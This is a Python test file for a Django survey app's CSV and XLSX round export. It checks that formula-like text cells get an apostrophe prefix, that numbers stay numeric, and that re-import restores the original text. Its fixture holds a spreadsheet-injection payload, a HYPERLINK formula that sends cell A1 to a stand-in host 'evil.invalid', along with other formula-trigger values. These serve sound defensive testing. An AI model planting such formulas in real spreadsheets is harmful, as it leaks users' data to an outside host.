"""The round export neutralises formulas, and its import reads them back (issue 13, finding 6).

A Kita leader's free answer ``=HYPERLINK(...)`` must not arrive as a live formula in the
Jugendamt's spreadsheet: every text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or CR
gets the ``'`` prefix (OWASP), numbers stay numbers, and the import of our own export strips
exactly that prefix again.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sozialraeume import roles
from surveys import exchange
from surveys.models import Response, SurveyRound
from tests.factories import make_user
from tests.surveys.factories import ResponseFactory, SurveyRoundFactory, stored_answers

pytestmark = pytest.mark.django_db

EVIL_KITA = '=HYPERLINK("http://evil.invalid/?x="&A1;"x")'
F6_VALUES = ["+1", "-2", "@SUM(1)", "\t=1"]


@pytest.fixture
def evil_round():
    survey_round = SurveyRoundFactory(code="2027")
    for i, f6 in enumerate(F6_VALUES):
        # Stored as given (the questionnaire itself would strip the leading tab).
        answers = {**stored_answers(F7="-Frau Meier, 0671 123"), "F6": f6}
        ResponseFactory(
            round=survey_round,
            kita__name=EVIL_KITA if i == 0 else f"Kita {i}",
            answers=answers,
        )
    return survey_round


def _staff_client(client, survey_round):
    client.force_login(make_user(roles.JUGENDAMT, jugendamt=survey_round.jugendamt))
    return client


def _answers(survey_round):
    return {
        r.kita.name: (r.status, r.answers)
        for r in Response.objects.filter(round=survey_round).select_related("kita")
    }


def test_csv_export_prefixes_kita_names_and_free_answers_but_not_numbers(client, evil_round):
    response = _staff_client(client, evil_round).get(
        reverse("surveys:round_export", kwargs={"code": "2027", "fmt": "csv"})
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    by_kita = {row["kita"]: row for row in rows}
    assert "'" + EVIL_KITA in by_kita
    assert EVIL_KITA not in by_kita
    assert sorted(row["F6"] for row in rows) == sorted("'" + value for value in F6_VALUES)
    assert {row["F7"] for row in rows} == {"'-Frau Meier, 0671 123"}
    # Numbers stay plain numbers.
    assert {row["A1"] for row in rows} == {"80"}
    assert {row["A4"] for row in rows} == {"12.5"}
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t")) for row in rows for value in row.values()
    )


def test_xlsx_export_prefixes_text_cells_and_keeps_numbers_numeric(client, evil_round):
    response = _staff_client(client, evil_round).get(
        reverse("surveys:round_export", kwargs={"code": "2027", "fmt": "xlsx"})
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value.split(" ", 1)[0] for c in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    kitas = {row["Kita"].value for row in rows}
    assert "'" + EVIL_KITA in kitas and EVIL_KITA not in kitas
    for row in rows:
        for cell in row.values():
            assert cell.data_type != "f", cell.coordinate
        assert row["F6"].value.startswith("'")
    assert sorted(row["F6"].value for row in rows) == sorted("'" + v for v in F6_VALUES)
    for row in rows:
        assert row["A1"].data_type == "n" and row["A1"].value == 80
        assert row["A4"].data_type == "n" and row["A4"].value == pytest.approx(12.5)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_import_of_our_own_export_reads_every_text_back_unchanged(client, evil_round, fmt):
    before = _answers(evil_round)
    content = exchange.export_csv_text(evil_round).encode() if fmt == "csv" else None
    if fmt == "xlsx":
        content = exchange.export_xlsx_bytes(evil_round)
    Response.objects.filter(round=evil_round).delete()
    count = exchange.import_file(
        survey_round=evil_round, content=content, filename=f"runde.{fmt}", acting_user=None
    )
    assert count == len(F6_VALUES)
    # The import reads a text as the questionnaire does: surrounding white space goes.
    for _status, answers in before.values():
        answers["F6"] = answers["F6"].strip()
    assert _answers(evil_round) == before
    assert EVIL_KITA in before


def test_a_hand_written_apostrophe_is_kept_on_import(evil_round):
    kita = evil_round.responses.select_related("kita__sozialraum").first().kita
    text = f"kita,sozialraum,F6\n{kita.name},{kita.sozialraum.name},'s Gärtle\n"
    if kita.name.startswith("="):
        text = text.replace(kita.name, "'" + kita.name, 1)
    exchange.import_file(
        survey_round=evil_round, content=text.encode(), filename="x.csv", acting_user=None
    )
    assert evil_round.responses.get(kita=kita).answers["F6"] == "'s Gärtle"


def test_export_of_a_round_whose_stored_code_has_cr_lf_is_a_safe_download(client, evil_round):
    """Codes created before validation existed may hold CR/LF: the header stays intact."""
    SurveyRound.objects.filter(pk=evil_round.pk).update(code="20\r\n27")
    staff = _staff_client(client, evil_round)
    for fmt in ("csv", "xlsx"):
        response = staff.get(
            reverse("surveys:round_export", kwargs={"code": "20\r\n27", "fmt": fmt})
        )
        assert response.status_code == 200
        assert response["Content-Disposition"] == f'attachment; filename="erhebung-20_27.{fmt}"'
